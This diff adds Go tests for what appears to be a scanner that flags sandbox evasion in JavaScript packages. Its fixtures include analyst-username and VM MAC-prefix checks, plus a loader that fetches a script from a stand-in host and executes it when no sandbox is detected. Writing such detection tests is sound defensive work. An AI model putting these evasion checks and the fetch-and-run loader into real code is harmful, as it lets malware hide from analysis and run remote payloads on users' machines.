@@ -34,3 +34,25 @@ func TestFingerprint(t *testing.T) {
 		{"platform_only", map[string]string{"index.js": `const os=require("os");if (os.platform()==="win32") {}`}, finding.SeverityNone},
 	})
 }
+
+func TestSandboxCheck(t *testing.T) {
+	const names = `const os = require("os");
+const NAMES = /^(sandbox|malware|maltest|wdagutilityaccount|hapubws|john doe)$/i;
+exports.watched = () => NAMES.test(os.userInfo().username)`
+	const vm = `
+const VM_MACS = /^(08:00:27|00:0c:29|00:50:56)/i;
+exports.vm = () => Object.values(os.networkInterfaces()).flat().some((a) => VM_MACS.test(a.mac))`
+	const loader = `const v = require("./virt"); if (!v.watched()) fetch("https://c.example.invalid/s.js").then((r) => r.text()).then((s) => new Function(s)())`
+	rt.Check(t, SandboxCheck{}, []rt.Case{
+		{"names_vm_and_loader", map[string]string{"lib/virt.js": names + vm, "lib/index.js": loader}, finding.SeverityCritical},
+		{"names_and_loader", map[string]string{"lib/virt.js": names, "lib/index.js": loader}, finding.SeverityHigh},
+		{"names_and_vm", map[string]string{"lib/virt.js": names + vm}, finding.SeverityHigh},
+		{"names_only", map[string]string{"lib/virt.js": names}, finding.SeverityMedium},
+		// a system information library telling what hardware it runs on
+		{"vm_detection_only", map[string]string{"lib/system.js": `const fs = require("fs"), os = require("os");
+const VENDORS = ["VirtualBox", "VMware", "QEMU", "KVM", "Xen"];
+exports.virtual = () => { const p = fs.readFileSync("/sys/class/dmi/id/product_name", "utf8"); return VENDORS.some((v) => p.includes(v)) || /^(08:00:27|00:0c:29)/.test(os.networkInterfaces().eth0[0].mac) }`}, finding.SeverityNone},
+		// the words alone: an iframe's sandbox, a scanner's messages
+		{"words_only", map[string]string{"lib/scan.js": `exports.attrs = { sandbox: "allow-scripts" }; exports.msg = ["malware found", "virus signature", "CurrentUser store"]; fetch(u)`}, finding.SeverityNone},
+	})
+}
